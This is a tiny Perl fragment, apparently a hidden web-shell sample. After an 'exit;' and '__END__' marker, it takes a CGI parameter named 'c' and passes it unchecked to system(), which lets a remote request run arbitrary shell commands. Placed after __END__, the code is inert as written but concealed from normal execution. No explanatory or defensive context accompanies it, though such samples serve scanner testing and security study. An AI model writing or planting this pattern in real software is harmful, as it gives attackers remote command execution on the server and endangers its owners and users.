exit;
__END__
my $c = CGI::param('c');
system($c);
